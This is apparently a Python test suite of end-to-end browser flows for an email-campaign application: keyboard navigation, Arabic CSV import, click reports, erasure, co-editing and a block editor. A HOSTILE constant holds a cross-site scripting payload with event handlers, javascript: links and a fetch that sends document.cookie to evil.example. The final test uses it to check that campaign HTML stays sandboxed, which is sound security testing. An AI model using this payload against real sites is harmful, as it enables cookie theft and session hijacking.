"""Whole tasks in the web application: by keyboard, with a broken file, over a bad line, two at once."""

import csv
import html
import io
import re
import shutil
import tempfile
import unittest
from pathlib import Path

from harness import mail
from harness.barid import Barid, until
from harness.browsing import Browsing
from harness.machine import browser

FIREFOX = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"}
OTHER = {"email": "layla@barid.example", "name": "Layla", "password": "another long password"}
# What a browser says when the frame of a message, or the page's own policy, holds something back.
BLOCKED = re.compile("sandboxed|violates the following Content Security Policy")
HOSTILE = """<html><body><h1>Offer</h1><img src="x" onerror="parent.owned=1;top.document.title='owned'">
<script>parent.owned = 1; fetch('https://evil.example/steal?' + document.cookie)</script>
<iframe src="javascript:parent.owned=1"></iframe><svg onload="top.owned=1"></svg>
<p><a href="javascript:top.owned=1">here</a></p><form action="https://evil.example/"><input name="q"></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<p>{{ organisation }}, {{ postal_address }}</p><p><a href="{{ unsubscribe_url }}">Unsubscribe</a></p></body></html>"""


class Flows(Browsing):
    """All on one server: each task brings its own campaign or person."""

    server = None

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        if cls.engine not in cls.engines or not browser():
            return
        directory = tempfile.mkdtemp(prefix="barid-conformance-")
        cls.addClassCleanup(shutil.rmtree, directory, ignore_errors=True)
        cls.server = Barid(Path(directory), cls.engine)
        cls.addClassCleanup(cls.server.kill)
        cls.server.init()
        cls.server.serve("--catcher")
        ask = lambda method, path, body: cls.server.http(method, path, body, key=True)
        ask("PUT", "/v1/sending/sender", {"name": "Al Noor", "email": "news@alnoor.example"})
        ask("POST", "/v1/samples", {"language": "en"})
        until(lambda: ask("GET", "/v1/samples", None).json["state"] == "loaded", 60, "the samples do not load")

    def setUp(self):
        super().setUp()
        self.servers.append(self.server)

    def ask(self, method, path, body=None, code=(200, 201, 202)):
        answer = self.server.http(method, path, body, key=True)
        self.assertIn(answer.code, code, answer)
        return answer.json

    def walk(self, name, seconds=120, language="en", **task):
        found = self.node(f"flows/{name}.mjs", {"origin": self.server.url, "language": language, **task}, seconds)[-1]
        self.assertNotIn("stuck", found, found)
        self.assertEqual([fault for fault in found["faults"] if not BLOCKED.search(fault)], [], found)
        return found

    def campaign(self, name, content=None):
        topic = self.ask("GET", "/v1/topics")["items"][0]["id"]
        body = {"name": name, "topic": topic, "subject": name, "language": "en", "html": content or (
            '<html><body><p><a href="https://shop.example/books">Books</a></p><p>{{ organisation }}, {{ postal_address }}</p>'
            '<p><a href="{{ unsubscribe_url }}">Unsubscribe</a></p></body></html>')}
        return self.ask("POST", "/v1/campaigns", body)["id"]

    def test_a_campaign_by_keyboard_alone(self):
        for language in ("en", "ar"):
            with self.subTest(language):
                found = self.walk("keyboard", language=language)
                self.assertIn(found["state"], ("preparing", "sending", "scheduled"), found)
                self.assertEqual(found["subject"], "News by keyboard")
                self.assertIsNotNone(found["segment"])
                self.assertEqual(found["hidden"], [], "the focus cannot be seen")

    def test_a_broken_arabic_file(self):
        when = "2026-03-01T10:00:00Z,2026-03-01T10:05:00Z"
        rows = ["البريد الإلكتروني,الاسم الأول,البلد,consent time,confirmed at,لون السيارة",
                f"zaynab1@people.example,زينب,EG,{when},أحمر",
                f'omar1@people.example,"عمر، الكبير",SA,{when},أزرق',
                f"huda1@people.example,هدى,LB,{when},",
                f"ZAYNAB1@people.example,زينب,EG,{when},أحمر",
                f"بلا عنوان,سامي,EG,{when},",
                f",ليلى,EG,{when},أخضر",
                f"rami1@people.example,رامي,أطلانتس,{when},"]
        path = self.file("قائمة.csv", ("\r\n".join(rows) + "\r\n").encode("cp1256"))
        found = self.walk("import", language="ar", file=str(path))
        self.assertGreater(found["seen"], 0, "the encoding is not told")
        counts = {"added": 4, "updated": 0, "unchanged": 1, "rejected": 2}
        self.assertEqual((found["trial"]["shown"], found["untouched"]), (counts, 0))
        self.assertEqual((found["done"]["shown"], found["people"]), (counts, 4))
        self.assertEqual(found["done"]["dropped"], ["لون السيارة"])
        rejects = list(csv.reader(io.StringIO(found["rejects"].removeprefix("\ufeff"))))
        self.assertEqual(len(rejects), 3, rejects)
        self.assertEqual(len({row[-1] for row in rejects[1:]}), 2, "each with its own reason")

    def test_the_report_of_a_clicked_campaign(self):
        relay = self.relay()
        server = self.barid().serve("--smtp-relay", relay.url)
        server("domain", "add", "sender.example")
        server.import_(self.people("zaynab", "paul", "lina"), "--tracking")
        campaign = server.campaign(self.html())
        server.send(campaign)
        message = relay.one("zaynab@people.example")
        link = next(link for link in mail.page(message.part("html")).links if "/t/" in link)
        server.http("GET", link, headers=FIREFOX)
        report = lambda: server("campaign", "report", campaign)
        until(lambda: sum(report()["clicks"][kind] for kind in ("human", "probable_machine", "machine")) == 1, 20, report)
        found = self.node("flows/report.mjs", {"origin": server.url, "language": "en", "campaign": campaign}, 90)[-1]
        self.assertNotIn("stuck", found)
        self.assertIn("3", found["delivered"])
        self.assertEqual(found["badges"][:1], [str(report()["clicks"]["human"])])
        self.assertIn("https://shop.example/books", found["links"])

    def test_a_person_is_erased(self):
        person = self.ask("POST", "/v1/contacts", {"email": "amal9@people.example", "first_name": "Amal"})["id"]
        found = self.walk("erase", person="amal9@people.example", contact=person)
        self.assertTrue(found["held"], "erased without being asked twice")
        self.assertEqual((found["listed"], found["named"], found["status"]), (0, False, 404))
        checked = self.ask("POST", "/v1/privacy/erasures/verify", found["certificate"])
        self.assertEqual((checked["authentic"], checked["ours"]), (True, True))

    def test_a_slow_and_a_lost_line(self):
        found = self.walk("slow", campaign=self.campaign("Before the line was lost"))
        self.assertLess(found["paint"], 1500, "the first paint of the signed-in application")
        self.assertLess(found["usable"], 10_000, found)
        self.assertEqual(found["before"], "Before the line was lost")
        self.assertEqual((found["kept"], found["after"]), ("Written while the line was down",) * 2)

    def test_two_people_at_one_campaign(self):
        self.layla()
        found = self.walk("together", campaign=self.campaign("Ours"), other=OTHER)
        self.assertIn("Spring books", found["shown"])
        self.assertIn("Books of spring", found["shown"])
        self.assertIn(OTHER["name"], found["shown"])
        self.assertEqual(found["kept"], "Spring books", "what was chosen is what is kept")
        self.assertEqual(found["faultsOfOther"], [])

    def test_two_people_in_one_message(self):
        self.layla()
        for language in ("en", "ar"):
            with self.subTest(language):
                found = self.walk("coauthors", 180, language, campaign=self.designed("Together", language), other=OTHER)
                self.assertEqual((found["both"], found["asked"]), (2, 0), "different blocks are put together without a question")
                self.assertIn(", given up", found["shown"])
                self.assertIn(", and kept", found["shown"])
                self.assertTrue(found["told"], "that nothing is lost is not said")
                self.assertEqual(found["kept"], [True, False], "what was chosen is what is kept")
                self.assertTrue(found["found"], "what was given up is lost")
                self.assertEqual(found["faultsOfOther"], [])

    def designed(self, name, language):
        """A campaign that begins with the newsletter's design."""
        starters = self.ask("GET", "/v1/starters")["items"]
        design = next(one for one in starters if one["language"] == language and "newsletter" in one["id"])["design"]
        topic = self.ask("GET", "/v1/topics")["items"][0]["id"]
        return self.ask("POST", "/v1/campaigns", {"name": name, "topic": topic, "subject": "News", "language": language, "design": design})["id"]

    def layla(self):
        """A second member, by the link in the letter that invites her; once for all tasks."""
        if any(one["email"] == OTHER["email"] for one in self.ask("GET", "/v1/members")["items"]):
            return
        self.ask("POST", "/v1/members", {"email": OTHER["email"], "role": "author"})
        letter = until(lambda: self.caught(OTHER["email"]), 20, "no invitation")
        token = letter.split("token=")[1].split('"')[0].split("&")[0].split()[0]
        body = {"token": token, "name": OTHER["name"], "password": OTHER["password"]}
        self.assertIn(self.server.http("POST", "/v1/account/invitation", body).code, (200, 201, 204))

    def caught(self, address):
        """The text of the letter to somebody in the catcher, if it is there."""
        for number in re.findall(r'href="/catcher/([^"/]+)"', self.server.http("GET", "/catcher").out):
            page = html.unescape(self.server.http("GET", f"/catcher/{number}").out)
            if address in page and "token=" in page:
                return page
        return None

    def test_a_call_flow_and_the_account_of_a_customer(self):
        self.ask("PUT", "/v1/calls/settings", {"countries": ["SA"], "max_seconds": 600, "max_calls": 5})
        for language in ("en", "ar"):
            with self.subTest(language=language):
                found = self.walk("callflow", 240, language)
                first, second, third = found["before"]
                self.assertEqual(found["led"], "step-2", found)
                self.assertEqual((found["moved"], found["kept"]), ([first, third, second],) * 2, found)
                self.assertGreaterEqual(found["secret"], 8, found)
                self.assertTrue(found["stays"], "the secret went away by a slip of the key")
                self.assertFalse(found["again"], "the secret is shown twice")

    def test_the_block_editor(self):
        for language in ("en", "ar"):
            with self.subTest(language):
                one, two = (self.designed(name, language) for name in ("One", "Two"))
                self.edited(self.walk("editor", 180, language, campaign=one, second=two))

    def test_what_the_editor_opens(self):
        for language in ("en", "ar"):
            with self.subTest(language):
                campaign = self.designed("Dialogues", language)
                design = self.ask("GET", f"/v1/campaigns/{campaign}")["content"]["body"]["design"]
                block = next(block for row in design["rows"] for column in row["cols"] for block in column if block["type"] == "image")
                found = self.walk("dialogs", 240, language, campaign=campaign, block=block["id"])["found"]
                self.assertEqual(len(found), 26)
                self.assertEqual([one for one in found if one["wider"] or one["violations"]], [])

    def edited(self, found):
        own, before = found["own"], found["before"]
        self.assertTrue(found["ok"], found)
        self.assertEqual([row["id"] for row in found["canvas"]], [row["id"] for row in found["rendered"]])
        for canvas, rendered in zip(found["canvas"], found["rendered"]):
            self.assertLessEqual(abs(canvas["height"] - rendered["height"]), 3, (canvas, rendered))
        self.assertEqual(found["moved"].index(own), before.index(own) - 3, "a step, and over a row of its own")
        self.assertEqual((found["back"], found["again"]), (before, found["moved"]))
        self.assertEqual(found["focused"], f"handle-{own}")
        self.assertEqual(found["carried"].index(own), found["again"].index(own) - 2)
        self.assertTrue(found["held"], "the footer can be lost")
        self.assertTrue(found["pasted"])

    def test_hostile_html_stays_in_its_frame(self):
        found = self.walk("hostile", campaign=self.campaign("Hostile", HOSTILE))
        self.assertEqual(found["sandbox"], "")
        self.assertIn("Offer", found["text"])
        self.assertIsNone(found["outside"]["owned"])
        self.assertNotIn("owned", found["outside"]["title"])
        self.assertEqual((found["dialogs"], found["asked"], found["pages"]), ([], [], 1))


if __name__ == "__main__":
    unittest.main()
